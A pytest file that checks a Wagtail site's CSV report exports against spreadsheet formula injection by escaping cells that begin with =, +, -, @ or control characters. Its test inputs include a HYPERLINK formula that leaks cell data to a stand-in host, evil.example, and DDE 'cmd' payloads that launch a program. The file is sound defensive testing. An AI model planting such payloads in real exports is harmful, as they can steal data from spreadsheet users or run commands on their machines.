"""Spreadsheet exports do not carry formulas: a cell starting with = + - @ (or tab / CR)
is written as text, so opening an export cannot run what someone typed into a title.

Wagtail's XLSX export already stores formulas as strings; its CSV export (site history
and every other report) wrote them as they were.
"""

import csv
import io

import pytest

from core.spreadsheets import neutralise_cell
from tests.factories import StoryPageFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
DANGEROUS = [FORMULA, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "＝1+1"]


def _csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text)))


def _cells_with(rows, needle):
    return [cell for row in rows for cell in row if needle in cell]


@pytest.mark.parametrize("value", DANGEROUS)
def test_neutralise_makes_dangerous_cells_text(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Gewoon verhaal", "", "1965", "a=b", "e-mail", None, 42, -3])
def test_neutralise_leaves_harmless_values_alone(value):
    assert neutralise_cell(value) == value


def test_site_history_csv_neutralises_a_formula_title(client, staff_user, community_a):
    page = StoryPageFactory(parent=community_a, title="Eerst gewoon", slug="formule")
    page.title = FORMULA
    page.save_revision(user=staff_user, log_action=True)
    client.force_login(staff_user)
    rows = _csv_rows(client.get("/admin/reports/site-history/", {"export": "csv"}))
    cells = _cells_with(rows, "HYPERLINK")
    assert cells, rows[:5]
    assert all(cell.startswith("'=") for cell in cells), cells


def test_other_report_csv_exports_are_neutralised_too(client, staff_user, community_a):
    """The locked-pages report: the rule sits in the one place every Wagtail CSV export goes through."""
    page = StoryPageFactory(parent=community_a, title="@SUM(1+1)*cmd|' /C calc'!A0", slug="op-slot")
    page.locked = True
    page.locked_by = staff_user
    page.save()
    client.force_login(staff_user)
    rows = _csv_rows(client.get("/admin/reports/locked/", {"export": "csv"}))
    cells = _cells_with(rows, "SUM(1+1)")
    assert cells and all(cell.startswith("'@") for cell in cells), cells


def test_catalogue_import_report_neutralises_inventory_numbers(tmp_path):
    from depot.importers.sync import REPORT_HEADER, Problem, SyncResult, _Report

    target = tmp_path / "report.csv"
    report = _Report(str(target), SyncResult())
    report.add(Problem(position=3, inventory_number="=cmd|'/C calc'!A0", outcome="failed", reason="+bad"))
    report.close()
    rows = list(csv.reader(target.open(encoding="utf-8")))
    assert rows[0] == list(REPORT_HEADER)
    assert rows[1][1] == "'=cmd|'/C calc'!A0" and rows[1][3] == "'+bad"
